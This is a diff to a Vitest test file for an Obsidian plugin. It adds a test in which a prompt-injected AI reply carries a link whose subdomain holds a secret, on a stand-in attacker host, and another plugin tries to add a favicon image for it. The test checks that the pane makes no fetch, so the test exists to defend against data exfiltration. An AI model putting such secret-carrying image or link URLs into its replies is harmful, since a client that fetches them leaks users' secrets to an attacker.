@@ -4,7 +4,7 @@
 // code-block processors), makes no request by itself, runs no other plugin's processor, and its
 // links open only on a click, asking first when they carry text from a note read in the turn.
 // (Failed before src/ui/untrusted/: the reply went to MarkdownRenderer unchanged.)
-import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
+import { afterEach, beforeEach, describe, expect, it, onTestFinished, vi } from "vitest";
 import { App, MarkdownRenderer, Plugin } from "../fakes/obsidian";
 import { fetchedUrls } from "../support/fetched-urls";
 import { startPlugin, stopPlugin } from "./support/plugin";
@@ -116,6 +116,37 @@ describe("a prompt-injected reply in the Obsidian pane", () => {
 		expect([...reply.querySelectorAll("code")].map((c) => c.textContent)).toContain(`![](https://${ATTACKER}/in-code.png)`);
 		other.unload();
 		await stopPlugin(plugin);
+	});
+
+	it("renders where nothing fetches: another plugin's post-processor that adds a remote image builds it in a document with no window, and the pane never holds it", async () => {
+		// A favicon plugin: an <img> before each external link, from the link's host (which can carry a secret).
+		const app = await appWithInjectedReply(`${POISONED_REPLY}\n\nSee [the status page](https://${SECRET}.${ATTACKER}/status).`);
+		const favicons = new Dataview(app, { id: "favicons", name: "Favicons", version: "1", minAppVersion: "1", author: "", description: "" });
+		const made: HTMLImageElement[] = [];
+		favicons.registerMarkdownPostProcessor((el) => {
+			for (const a of Array.from(el.querySelectorAll<HTMLElement>("a.external-link"))) {
+				made.push(a.createEl("img", { attr: { src: `https://${new URL(a.getAttribute("href") ?? "").host}/favicon.ico` }, prepend: true }));
+			}
+		});
+		const inserted: string[] = [];
+		const observer = new MutationObserver((records) => {
+			for (const record of records) for (const node of Array.from(record.addedNodes)) if (node.nodeType === 1) inserted.push(...fetchedUrls(node as Element));
+		});
+		observer.observe(app.doc, { subtree: true, childList: true });
+		const { plugin } = await startPlugin(app);
+		onTestFinished(async () => {
+			observer.disconnect();
+			favicons.unload();
+			await stopPlugin(plugin);
+		});
+		const reply = await openReply(app);
+		await until(() => reply.textContent?.includes("the status page"));
+
+		expect(made.length).toBeGreaterThan(0);
+		for (const img of made) expect(img.ownerDocument.defaultView).toBeNull();
+		expect(MarkdownRenderer.loads).toEqual([]);
+		expect(inserted).toEqual([]);
+		expect(reply.querySelector("img")).toBeNull();
 	});
 
 	it("shows a remote image as a placeholder naming its host, which loads only on a click", async () => {
